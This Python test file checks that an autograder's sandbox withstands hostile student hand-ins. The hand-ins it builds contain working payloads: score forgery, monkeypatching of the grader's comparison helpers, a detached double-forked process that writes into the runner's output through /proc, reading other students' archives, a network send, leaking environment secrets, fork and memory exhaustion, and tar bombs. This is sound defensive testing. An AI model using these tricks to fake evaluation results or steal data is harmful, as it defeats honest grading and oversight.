"""The grader against hostile hand-ins: none can forge, read or change a grade.

Each attack is a hand-in built here, in a temporary folder, and graded by a copy of the grader
(so that an attack that got through could only damage the copy). Every payload is bounded: a
few forks under a low process cap, a few MiB of output, an allocation over a low memory cap,
background processes that sleep and then try their writes. After every run the test checks:
the forged tests score 0 (or the archive is refused), the runner's last line is the true score,
the reports, results.json and scores.csv do not change after the runner has exited, no file
outside the hand-in's folder changed, and no process a hand-in started is alive (any found is
killed by its pid, and the test fails).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from autograder.containment import Containment, SandboxUnavailableError  # noqa: E402
from autograder.mutants import WRONG_SIGN, broken_copy  # noqa: E402

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the grader's sandbox needs Linux")

MARK = "31.4159"
"""What a hand-in's background processes are called (``sleep 31.4159``): found afterwards, they
survived."""
TOKEN = "grader-token-5d1c9e"
"""A secret in the runner's environment: no report may show it."""
SECRET = "VICTIM-SECRET-4242"
"""Text inside another student's hand-in: no other report may show it."""
FAKE = '{"scores": {"operations": 999}}'
"""The forged Autolab line: it may appear in a report only as the quoted output of a test."""


# --------------------------------------------------------------------------- building hand-ins
def _package(folder: Path, code: str = "", wrong_mul: bool = False, bare: bool = False) -> Path:
    """``folder/mytorch``: MyTorch's own (or with a wrong-sign ``mul_backward``, or only an
    ``__init__.py``), with ``code`` appended to its ``__init__.py`` (run when it is imported)."""
    if bare:
        (folder / "mytorch").mkdir(parents=True)
        (folder / "mytorch" / "__init__.py").write_text(code)
        return folder
    if wrong_mul:
        broken_copy(ROOT, folder, "mul_backward", WRONG_SIGN)
    else:
        shutil.copytree(ROOT / "mytorch", folder / "mytorch", ignore=shutil.ignore_patterns("__pycache__"))
    init = folder / "mytorch" / "__init__.py"
    init.write_text(init.read_text() + "\n" + code)
    return folder


def _tar(folder: Path, archive: Path, mode: str = "w") -> Path:
    with tarfile.open(archive, mode) as tar:
        tar.add(folder / "mytorch", arcname="mytorch", filter=lambda m: None if "__pycache__" in m.name else m)
    return archive


def _handin(tmp: Path, inbox: Path, name: str, **package) -> Path:
    mode = "w:gz" if name.endswith(".gz") else "w"
    return _tar(_package(tmp / f"src-{name}", **package), inbox / name, mode)


def _forger(targets: list[str]) -> str:
    """No implementation at all: it prints a fake Autolab line, writes fake scores wherever it
    can, hunts the worker's result pipe in its callers' frames and sends a forged result
    (zeros, and an object array that would need pickle), then exits."""
    return f'''
import io, json, os, struct, sys
import numpy as np
print({FAKE!r}, flush=True)
for path in {targets!r}:
    try:
        with open(path, "a") as out:
            out.write({FAKE!r} + "\\n")
    except OSError:
        pass
frame, fd = sys._getframe(), None
while frame is not None and fd is None:
    config = frame.f_locals.get("config")
    if isinstance(config, dict) and "result_fd" in config:
        fd = config["result_fd"]
    frame = frame.f_back
if fd is not None:
    buffer = io.BytesIO()
    np.savez(buffer, **{{"gradient of input 0": np.zeros((3, 4)), "gradient of input 1": np.zeros((3, 4)),
                        "verdict": np.array([{{"passed": True}}], dtype=object)}})
    payload = buffer.getvalue()
    os.write(fd, b"R" + b"D" + struct.pack(">Q", len(payload)) + payload)
    os._exit(0)
'''


PATCHER = '''
import inspect, sys
import numpy
numpy.abs = lambda x, *args, **kwargs: numpy.zeros_like(x)
numpy.allclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for attribute in ("assert_close", "judge", "_assert_equal", "decode_arrays"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *args, **kwargs: None)
for info in inspect.stack():
    found = [k for k in info.frame.f_locals if k in ("expected", "want", "reference")]
    if found:
        print("FOUND REFERENCE", found)
'''
"""Replaces the comparison helpers, numpy.abs and friends, and looks for the expected arrays
in its callers' frames; with a wrong-sign mul_backward."""


def _survivor(targets: list[str]) -> str:
    """Double-forks a ``setsid`` process that waits, then appends fake scores to the reports and
    to the runner's own stdout (through /proc), and stays alive as ``sleep 31.4159``."""
    return f'''
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            time.sleep(1.5)
            for path in {targets!r}:
                try:
                    with open(path, "a") as out:
                        out.write({FAKE!r} + "\\n")
                except OSError:
                    pass
            for stdout in glob.glob("/proc/[0-9]*/fd/1"):
                try:
                    with open(os.path.join(os.path.dirname(os.path.dirname(stdout)), "cmdline"), "rb") as f:
                        if b"runner.py" in f.read():
                            with open(stdout, "w") as out:
                                out.write({FAKE!r} + "\\n")
                except OSError:
                    pass
            os.execv("/bin/sleep", ["sleep", {MARK!r}])
        finally:
            os._exit(0)
    os._exit(0)
'''


def _snooper(grader: Path, inbox: Path, port: int) -> str:
    """Reads other hand-ins (the archives and anything extracted), tries the network, and
    appends a no-op comparison to the grader's own files."""
    return f'''
import glob, os, socket
stolen = b""
for pattern in [{str(inbox)!r} + "/*", "/tmp/mytorch-*/**/*"]:
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            with open(path, "rb") as f:
                stolen += f.read(100000)
        except OSError:
            pass
print("STOLEN", stolen[-3000:])
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=0.5).sendall(b"STOLEN")
except OSError as error:
    print("no network:", error)
for path in [{str(grader / "autograder" / "checks.py")!r}, {str(grader / "autograder" / "grading.py")!r}]:
    try:
        with open(path, "a") as out:
            out.write("\\ndef assert_close(*args, **kwargs):\\n    return None\\n")
    except OSError:
        pass
'''


ENVLEAK = "import os\nraise ImportError('environment: ' + repr(dict(os.environ)))\n"
FLOOD = "import sys\nfor _ in range(8):\n    sys.stdout.write('x' * 2**20)\nraise ImportError('flooded')\n"
FORKER = f'''
def _greedy_mul(grad_output, a, b):
    import os
    import numpy as np
    try:
        np.ones(100 * 2**20)
        notes = "allocated 800 MB"
    except MemoryError:
        notes = "allocation refused"
    children = 0
    for _ in range(12):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", {MARK!r}])
        children += 1
    raise RuntimeError(f"{{notes}}; forked {{children}}")


from mytorch.nn import functional as _functional
_functional.mul_backward = _greedy_mul
'''
"""Allocates 800 MB (over ``--memory 400``) and forks up to 12 sleepers (``--max-procs 4``)."""
HANG = "while True:\n    pass\n"


# --------------------------------------------------------------------------- running and checking
@pytest.fixture(scope="module")
def grader(tmp_path_factory) -> Path:
    """A copy of the grader and of MyTorch: what the attacks may try to change."""
    copy = tmp_path_factory.mktemp("grader")
    for name in ("autograder", "mytorch"):
        shutil.copytree(ROOT / name, copy / name, ignore=shutil.ignore_patterns("__pycache__"))
    return copy


def run_grader(grader: Path, *args: str, cwd: Path, timeout: float = 150) -> subprocess.CompletedProcess:
    command = [sys.executable, str(grader / "autograder" / "runner.py"), "--jobs", "2", "--timeout", "5",
               "--startup-timeout", "20", *args]  # fmt: skip
    env = {**os.environ, "MYTORCH_GRADER_TOKEN": TOKEN, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1"}
    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout)


def snapshot(*folders: Path) -> dict[str, str]:
    """The SHA-256 of every file under ``folders``."""
    return {
        str(path): hashlib.sha256(path.read_bytes()).hexdigest()
        for folder in folders
        for path in sorted(folder.rglob("*"))
        if path.is_file() and "__pycache__" not in path.parts
    }


def survivors() -> list[int]:
    """Processes a hand-in left (``sleep 31.4159``): each is killed by its pid."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARK.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    for pid in found:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    return found


def scores_csv(path: Path) -> dict[str, dict[str, str]]:
    return {row["handin"]: row for row in csv.DictReader(io.StringIO(path.read_text()))}


def sandbox_or_skip(mode: str) -> None:
    """Skip, saying why, when this machine cannot give ``mode``."""
    from autograder.isolation import probe

    if mode == "uid" and os.geteuid() != 0:
        pytest.skip("--sandbox uid needs the runner to be root")
    try:
        Containment.choose(mode, probe)
    except SandboxUnavailableError as error:
        pytest.skip(f"the kernel refuses this sandbox here: {error}")


# --------------------------------------------------------------------------- malformed archives
def _member(tar: tarfile.TarFile, name: str, data: bytes = b"x = 1\n") -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def malformed(inbox: Path) -> dict[str, str]:
    """Archives that must be refused, and a fragment of each one's reason."""
    with tarfile.open(inbox / "long-component.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        _member(tar, "mytorch/__init__.py")
        _member(tar, "mytorch/" + "a" * 300 + ".py")
    with tarfile.open(inbox / "long-path.tar", "w", format=tarfile.GNU_FORMAT) as tar:
        _member(tar, "mytorch/__init__.py")
        _member(tar, "mytorch/" + "/".join(["d" * 200] * 25) + "/x.py")
    with tarfile.open(inbox / "file-and-folder.tar", "w") as tar:
        _member(tar, "mytorch")
        _member(tar, "mytorch/__init__.py")
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
        for i in range(40):
            _member(tar, f"mytorch/m{i}.py", bytes(range(256)) * 40)
    (inbox / "truncated.tar.gz").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, 8 * 2**30  # claims 8 GiB, holds 9 KB
    (inbox / "header-bomb.tar").write_bytes(header.tobuf(format=tarfile.GNU_FORMAT)[:512] + b"a" * 9000)
    with tarfile.open(inbox / "pax-bomb.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
        _member(tar, "mytorch/" + "b" * 1_500_000 + ".py")  # a 1.5 MB pax header, compressed to ~2 KB
    with tarfile.open(inbox / "zeros.tar.gz", "w:gz") as tar:
        _member(tar, "mytorch/__init__.py", bytes(15 * 2**20))
    with tarfile.open(inbox / "many.tar", "w") as tar:
        for i in range(2001):
            _member(tar, f"mytorch/m{i}.py", b"")
    (inbox / "empty.tar").write_bytes(b"")
    (inbox / "junk.tgz").write_bytes(b"not an archive at all")
    return {
        "long-component.tar": "name component over 255 bytes",
        "long-path.tar": "path over 4096 bytes",
        "file-and-folder.tar": "collides with an earlier member",
        "truncated.tar.gz": "not a readable tar archive",
        "header-bomb.tar": "long-name header of 8589934592 bytes",
        "pax-bomb.tar.gz": "long-name header of 1500",
        "zeros.tar.gz": "expands more than 200 times",
        "many.tar": "more than 2000 members",
        "empty.tar": "not a readable tar archive",
        "junk.tgz": "not a readable tar archive",
    }


# --------------------------------------------------------------------------- the batch
@pytest.fixture(scope="module")
def batch(grader, tmp_path_factory):
    """One ``--handin-dir`` run under ``--sandbox namespaces`` over every attack, MyTorch itself
    under two names, a wrong kernel and the malformed archives."""
    sandbox_or_skip("namespaces")
    tmp = tmp_path_factory.mktemp("batch")
    inbox, out = tmp / "inbox", tmp / "grades"
    inbox.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    targets = [str(out / "scores.csv"), str(out / "alice.tar.json"), str(out / "alice.tar.txt")]
    _handin(tmp, inbox, "alice.tar")
    _handin(tmp, inbox, "alice.tar.gz", wrong_mul=True)
    _handin(tmp, inbox, "forger.tar", code=_forger(targets), bare=True)
    _handin(tmp, inbox, "patcher.tar", code=PATCHER, wrong_mul=True)
    _handin(tmp, inbox, "survivor.tar", code=_survivor(targets))
    _handin(tmp, inbox, "b-snooper.tar", code=_snooper(grader, inbox, listener.getsockname()[1]))
    victim = _package(tmp / "src-victim", wrong_mul=True)
    (victim / "mytorch" / "notes.py").write_text(f"# {SECRET}\n")
    _tar(victim, inbox / "z-victim.tar")
    _handin(tmp, inbox, "envleak.tar", code=ENVLEAK, bare=True)
    _handin(tmp, inbox, "flood.tar", code=FLOOD, bare=True)
    _handin(tmp, inbox, "forker.tar", code=FORKER)
    refused = malformed(inbox)
    before = snapshot(grader, inbox)
    start = time.monotonic()
    limits = ["--memory", "400", "--max-procs", "4", "--handin-timeout", "60"]
    done = run_grader(grader, "--handin-dir", str(inbox), "--out-dir", str(out), "--sandbox", "namespaces", *limits,
                      "operations", cwd=tmp)  # fmt: skip
    seconds = time.monotonic() - start
    right_after = snapshot(out)
    time.sleep(2.0)  # the background processes' time to act, had they survived
    try:
        connection = listener.accept()[0]
        connection.close()
        reached = True
    except BlockingIOError:
        reached = False
    listener.close()
    return {"done": done, "out": out, "inbox": inbox, "refused": refused, "before": before, "seconds": seconds,
            "right_after": right_after, "later": snapshot(out), "after": snapshot(grader, inbox),
            "survivors": survivors(), "network": reached}  # fmt: skip


def test_the_batch_finishes_with_one_report_per_archive_and_a_complete_score_table(batch):
    done, out = batch["done"], batch["out"]
    assert done.returncode == 0, done.stderr[-2000:]
    archives = sorted(p.name for p in batch["inbox"].iterdir())
    assert len(archives) == 20
    table = scores_csv(out / "scores.csv")
    assert sorted(table) == archives
    for name in archives:
        assert (out / f"{name}.txt").is_file() and (out / f"{name}.json").is_file(), name
    assert done.stdout.strip().splitlines()[-1].startswith("scores of 20 hand-ins")
    assert FAKE not in done.stdout and "STOLEN" not in done.stdout
    assert batch["seconds"] < 100


def test_reports_named_after_the_whole_archive_name_keep_a_tar_and_a_tar_gz_apart(batch):
    table = scores_csv(batch["out"] / "scores.csv")
    assert table["alice.tar"]["operations"] == "6"  # MyTorch itself: full marks
    assert table["alice.tar.gz"]["operations"] == "5"  # a wrong mul_backward: exactly its point
    assert json.loads((batch["out"] / "alice.tar.json").read_text())["score"] == 6


@pytest.mark.parametrize("name", ["forger.tar", "envleak.tar", "flood.tar"])
def test_a_handin_without_a_working_mytorch_scores_zero_whatever_it_forges(batch, name):
    assert scores_csv(batch["out"] / "scores.csv")[name]["total"] == "0"
    report = (batch["out"] / f"{name}.txt").read_text()
    assert report.strip().splitlines()[-1] == json.dumps({"scores": {"operations": 0}})


def test_a_forged_result_with_a_pickled_verdict_is_refused(batch):
    report = (batch["out"] / "forger.tar.txt").read_text()
    assert "REFUSED: result member 'verdict.npy' is not a readable array" in report and "allow_pickle" in report


def test_replacing_the_comparisons_and_reading_frames_does_not_save_a_wrong_kernel(batch):
    assert scores_csv(batch["out"] / "scores.csv")["patcher.tar"]["operations"] == "5"
    report = (batch["out"] / "patcher.tar.txt").read_text()
    assert "FAIL  operations/mul" in report and "FOUND REFERENCE" not in report


def test_nothing_outlives_grading_and_no_report_changes_afterwards(batch):
    assert batch["survivors"] == []
    assert batch["right_after"] == batch["later"]
    assert scores_csv(batch["out"] / "scores.csv")["survivor.tar"]["operations"] == "6"
    for path in batch["out"].iterdir():
        assert FAKE not in path.read_text().splitlines(), path  # quoted as a test's output at most


def test_a_handin_cannot_read_another_or_change_the_grader(batch):
    assert batch["before"] == batch["after"]
    assert scores_csv(batch["out"] / "scores.csv")["z-victim.tar"]["operations"] == "5"
    assert batch["network"] is False
    for path in batch["out"].iterdir():
        assert SECRET not in path.read_text(), path


def test_the_runners_environment_never_reaches_a_report(batch):
    report = (batch["out"] / "envleak.tar.txt").read_text()
    assert "environment: {" in report and "PATH" in report
    assert TOKEN not in report and "MYTORCH_GRADER_TOKEN" not in report


def test_a_flood_of_output_is_cut_to_its_end_with_a_note(batch):
    report = batch["out"] / "flood.tar.txt"
    assert "earlier bytes dropped" in report.read_text()
    assert report.stat().st_size < 6 * 80_000  # six failing tests, 64 KiB of output each at most


def test_memory_and_processes_are_capped(batch):
    report = (batch["out"] / "forker.tar.txt").read_text()
    assert "allocation refused" in report
    forked = int(re.search(r"RuntimeError: allocation refused; forked (\d+)", report).group(1))
    assert forked <= 3  # --max-procs 4, the worker itself included


def test_malformed_archives_are_refused_in_one_line_with_zero(batch):
    table = scores_csv(batch["out"] / "scores.csv")
    for name, reason in batch["refused"].items():
        first = (batch["out"] / f"{name}.txt").read_text().splitlines()[0]
        assert first.startswith(f"HAND-IN {name} NOT GRADED:") and reason in first, first
        assert len(first) < 400
        assert table[name]["total"] == "0"


# --------------------------------------------------------------------------- every sandbox mode
@pytest.mark.parametrize("mode", ["uid", "none"])
def test_in_every_sandbox_mode_a_wrong_kernel_costs_its_point_and_nothing_survives(grader, tmp_path, mode):
    sandbox_or_skip(mode)
    inbox, out = tmp_path / "inbox", tmp_path / "grades"
    inbox.mkdir()
    targets = [str(out / "scores.csv"), str(out / "mytorch.tar.txt")]
    _handin(tmp_path, inbox, "mytorch.tar", code=_survivor(targets))
    _handin(tmp_path, inbox, "wrong.tar", wrong_mul=True)
    _handin(tmp_path, inbox, "forger.tar", code=_forger(targets), bare=True)
    before = snapshot(grader, inbox)
    done = run_grader(grader, "--handin-dir", str(inbox), "--out-dir", str(out), "--sandbox", mode,
                      "operations", cwd=tmp_path)  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert f"--sandbox {mode}:" in done.stderr  # what this mode leaves unprotected, said once
    assert done.stderr.count("note:") == 1
    right_after = snapshot(out)
    time.sleep(2.0)
    assert survivors() == []
    assert snapshot(out) == right_after and snapshot(grader, inbox) == before
    table = scores_csv(out / "scores.csv")
    assert {name: row["operations"] for name, row in table.items()} == {"mytorch.tar": "6", "wrong.tar": "5",
                                                                        "forger.tar": "0"}  # fmt: skip


USERNS_SCRIPT = """
import shutil, sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from autograder.containment import Containment, become_subreaper
from autograder.grading import collect
from autograder.isolation import Settings, grade, probe
flags = ("--user", "--map-root-user", "--pid", "--fork", "--kill-child", "--mount", "--net", "--ipc", "--uts")
containment = Containment("namespaces", (shutil.which("unshare"), *flags), False, "")
problem = probe(containment)
if problem:
    print("REFUSED", problem)
    raise SystemExit(0)
become_subreaper()
outcomes = grade(collect(["operations"]), Path(sys.argv[2]), Settings(jobs=2), containment)
print("FAILED", [o.test.name for o in outcomes if not o.passed])
"""


def test_in_a_user_namespace_workers_are_contained_too(tmp_path):
    """The unprivileged path (``unshare --user --map-root-user``, capabilities dropped inside),
    taken here even as root, in a process of its own."""
    if shutil.which("unshare") is None:
        pytest.skip("unshare (util-linux) is not installed")
    wrong = _package(tmp_path / "wrong", wrong_mul=True)
    done = subprocess.run([sys.executable, "-c", USERNS_SCRIPT, str(ROOT), str(wrong)], capture_output=True,
                          text=True, timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    if done.stdout.startswith("REFUSED"):
        pytest.skip(f"the kernel refuses user namespaces here: {done.stdout[9:].strip()}")
    assert done.stdout.strip() == "FAILED ['mul']"


# --------------------------------------------------------------------------- one hand-in, Autolab
def test_the_autolab_line_is_last_and_true_and_results_json_stays(grader, tmp_path):
    results = tmp_path / "results.json"
    archive = _handin(tmp_path, tmp_path, "handin.tar", code=_survivor([str(results)]) + _forger([str(results)]),
                      bare=True)  # fmt: skip
    done = run_grader(grader, "--handin", str(archive), "--json", str(results), "operations", cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip().splitlines()[-1] == json.dumps({"scores": {"operations": 0}})
    written = results.read_bytes()
    time.sleep(2.0)
    assert results.read_bytes() == written and json.loads(written)["score"] == 0
    assert survivors() == []


def test_an_import_that_never_returns_costs_the_handin_its_time_limit_at_most(grader, tmp_path):
    archive = _handin(tmp_path, tmp_path, "hang.tar", code=HANG)
    start = time.monotonic()
    done = run_grader(grader, "--handin", str(archive), "--startup-timeout", "2", "--handin-timeout", "5",
                      "operations", cwd=tmp_path)  # fmt: skip
    assert time.monotonic() - start < 30
    assert done.stdout.strip().splitlines()[-1] == json.dumps({"scores": {"operations": 0}})
    assert "TIMEOUT: importing the hand-in took over 2 s" in done.stdout
    assert "time limit of 5 s ran out" in done.stdout
